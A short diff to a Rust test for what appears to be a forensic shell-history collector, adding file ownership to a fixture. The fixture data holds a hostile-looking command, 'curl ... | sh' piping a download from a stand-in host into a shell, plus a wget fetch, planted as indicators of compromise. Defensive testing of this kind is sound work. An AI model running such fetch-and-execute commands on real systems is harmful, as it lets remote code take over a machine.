@@ -198,6 +198,7 @@ fn shell_history_of_each_user() {
         "/home/ioc_bob/.zsh_history",
         ": 1700000000:0;ls\n: 1700000100:0;curl -s http://203.0.113.9/x | sh\n",
     )
+    .own("/home/ioc_bob/.zsh_history", 4242, 4243)
     .write("/root/.bash_history", "id\n#1700000200\nwget http://203.0.113.9/y\n");
     let (obs, stats) = observe(&ShellHistoryCollector, &r.root());
     assert_eq!(stats.error_count(), 0, "{:?}", stats.errors);
